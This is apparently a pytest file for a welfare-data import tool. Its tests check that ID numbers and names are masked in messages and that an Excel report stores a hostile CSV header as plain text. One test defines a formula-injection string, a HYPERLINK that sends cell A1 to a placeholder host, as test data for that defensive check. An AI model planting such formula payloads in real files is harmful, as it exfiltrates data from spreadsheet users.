    file.write_text("\n".join(";".join(r) for r in GOOD_ROWS) + "\n", encoding="utf-8")
    with pytest.raises(ImportFileError) as raised:
        run_import(warehouse, "dtks", file)
    message = str(raised.value)
    assert message.startswith("tanpa_judul.csv: no column for nik; no_kk; nama")
    assert not SIXTEEN_DIGITS.search(message) and "*****0001" in message


@pytest.mark.parametrize(
    "macro, value, expected",
    [
        ("mask_number", "9971011505800001", "************0001"),
        ("mask_number", "123", "***"),
        ("mask_initials", "Siti  Nur aisyah", "S. N. A."),
        ("mask_initials", "Budi", "B."),
        ("mask_place", "Jl. Uji 5", "J********"),
        ("mask_digits", "15/05/1980", "**/**/****"),
        ("mask_coordinate", "104,0123", "104.01"),
        ("mask_coordinate", "utara", "utara"),
        ("mask_long_numbers", "KASUS-9971011505800001", "KASUS-*****0001"),
        ("mask_long_numbers", "Rp 750.000", "Rp 750.000"),
    ],
)
def test_mask_macros_and_python_masks_agree(macro_con, macro, value, expected):
    assert (
        macro_con.execute(queries.load("tests/agency_import/mask"), {"macro": macro, "v": value}).fetchone()[0]
        == expected
    )
    assert getattr(ai, macro)(value) == expected


def test_the_excel_report_carries_no_formula(warehouse, tmp_path):
    # A header of the agency's file is the attacker's text: listed as ignored, it must reach
    # the report as text, not as a formula Excel would run.
    hostile = '=HYPERLINK("http://x.invalid/?d="&A1,"klik")'
    file = write_csv(tmp_path / "hostile.csv", [*SIKS_HEADER, hostile], [[*r, "x"] for r in GOOD_ROWS])
    report = tmp_path / "laporan.xlsx"
    assert main(["import", "dtks", str(file), "--report", str(report), "--db", str(warehouse)]) == 0
    book = openpyxl.load_workbook(report)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.value for c in cells if c.value == hostile and c.data_type == "s"] == [hostile]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
